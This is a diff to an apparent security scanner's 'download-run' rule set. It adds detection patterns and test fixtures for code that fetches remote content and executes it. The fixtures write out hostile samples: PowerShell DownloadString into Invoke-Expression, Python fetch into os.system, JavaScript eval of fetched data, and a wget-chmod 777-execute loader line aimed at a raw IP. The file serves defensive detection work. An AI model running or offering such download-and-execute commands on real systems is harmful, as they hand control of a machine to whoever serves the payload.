@@ -1,5 +1,7 @@
 // Download and run: what runs is decided by someone else, later. Installers do it over https in the open, which is worth
 // a finding and no more; plain http, raw addresses, hidden folders, hidden windows and direct evaluation are not honest.
+
+import { flowsInto } from '../flows.ts'
 import {
   any,
   at,
@@ -27,7 +29,7 @@ const id = (name: string): string => `download-run.${name}`
 
 const runner = String.raw`\|\s*(?:sudo\s+)?(?:-\w+\s+)?(?:env\s+)?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|node|php|ruby)\b`
 const piped = (source: string): RegExp =>
-  new RegExp(`(?:curl|wget)(?=\\s)[^\\n|;]{0,160}?${source}[^\\n|;]{0,160}${runner}`)
+  new RegExp(`(?:curl|wget)(?=\\s|\\\\?\\$)[^\\n|;]{0,160}?${source}[^\\n|;]{0,160}${runner}`)
 
 const hiddenFolder = is(
   [
@@ -173,6 +175,63 @@ export const downloadRun: RuleSet = {
         js("const r = await fetch(u)\nconst s = await r.text()\nnew Function('require', s)(require)"),
       ],
       misses: [js("fetch('/api').then((r) => r.json()).then(render)"), js('const f = new Function("return this")()')],
+    },
+    {
+      id: id('flow'),
+      severity: 'high',
+      why: 'Fetches text into a name and evaluates or runs that name.',
+      when: any(
+        where(
+          is(['downloadstring(', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '], null, { families: ['ps'] }),
+          flowsInto(String.raw`(?:iex|invoke-expression)[\s(]|scriptblock\]::create\(`),
+        ),
+        where(
+          is(['requests.get', 'urlopen(', 'httpx.get'], null, { families: ['py'] }),
+          flowsInto(String.raw`(?<![\w.])(?:exec|eval)\(|os\.system\(|os\.popen\(`),
+        ),
+        near(
+          10,
+          is(
+            ['https.get(', 'http.get(', 'fetch(', 'axios.', 'request('],
+            /(?:https?\.get|(?<![\w.$])fetch|axios\.(?:get|post)|(?<![\w.$])request)\(/,
+            {
+              families: ['js'],
+            },
+          ),
+          is(
+            ['eval(', 'function(', '_compile('],
+            /(?:(?<![\w$.])eval|(?<=new\s)Function|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:JSON\.parse\(|Buffer\.from\(|atob\(|decrypt\w{0,12}\()/,
+            {
+              families: ['js'],
+            },
+          ),
+        ),
+      ),
+      matches: [
+        ps(
+          '$code = (New-Object Net.WebClient).DownloadString("https://x.example.invalid/a.ps1")\nInvoke-Expression $code',
+        ),
+        py('text = requests.get(url).text\nos.system(text)'),
+        js("https.get('https://x.example.invalid', (r) => {\n  r.on('data', (d) => eval(JSON.parse(d).content))\n})"),
+      ],
+      misses: [
+        ps('$json = Invoke-RestMethod "https://api.example.org/v1"\nWrite-Output $json'),
+        py('text = requests.get(url).text\nprint(text)'),
+      ],
+    },
+    {
+      id: id('loader-loop'),
+      severity: 'high',
+      why: 'Fetches a program for every kind of processor over plain http, opens its rights to all and runs it.',
+      when: command(
+        is(
+          ['chmod 777', 'chmod +x'],
+          /(?:wget|curl|tftp|ftpget)\s[^\n]{0,60}http:\/\/[^\n]{4,160}?(?:;|&&)\s*chmod\s(?:777|\+x)\s+\S{1,40}\s*(?:;|&&)\s*(?:\.\/|sh\s)\S/,
+          { before: 300, after: 120 },
+        ),
+      ),
+      matches: [sh('wget http://203.0.113.5/bins/$a; chmod 777 $a; ./$a scan; rm -rf $a')],
+      misses: [sh('wget https://example.org/tool && chmod +x tool && mv tool ~/bin')],
     },
     {
       id: id('other-eval'),
